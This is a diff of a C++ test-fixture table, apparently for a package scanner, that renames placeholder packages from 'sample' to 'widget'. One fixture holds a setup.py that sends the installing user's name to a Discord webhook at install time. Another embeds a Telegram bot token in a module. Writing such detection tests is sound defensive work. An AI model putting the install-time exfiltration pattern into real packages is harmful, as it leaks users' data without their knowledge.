@@ -41,28 +41,28 @@ constexpr Sample samples[] = {
      .expect = "setup.py:5",
      .bundle = R"(==> PKG-INFO
 Metadata-Version: 2.1
-Name: sample
+Name: widget
 Version: 1.0.0
 ==> setup.py
 from setuptools import setup
 import getpass
 import requests
 user = getpass.getuser()
-requests.post("https://discord.com/api/webhooks/0/sample", json={"content": user})
-setup(name="sample", version="1.0.0")
+requests.post("https://discord.com/api/webhooks/0/widget", json={"content": user})
+setup(name="widget", version="1.0.0")
 )"},
     {.name = "a bot token is written into a module",
      .expect = "index.js:2",
      .bundle = R"(==> package.json
-{"name": "sample", "version": "1.0.0", "main": "index.js"}
+{"name": "widget", "version": "1.0.0", "main": "index.js"}
 ==> index.js
 const axios = require("axios");
-exports.tell = (text) => axios.post("https://api.telegram.org/bot0:sample/sendMessage", {text});
+exports.tell = (text) => axios.post("https://api.telegram.org/bot0:widget/sendMessage", {text});
 )"},
     {.name = "a library takes the webhook from its user",
      .expect = silent,
      .bundle = R"(==> package.json
-{"name": "sample", "version": "1.0.0", "main": "index.js"}
+{"name": "widget", "version": "1.0.0", "main": "index.js"}
 ==> index.js
 const axios = require("axios");
 exports.tell = (id, token, text) =>
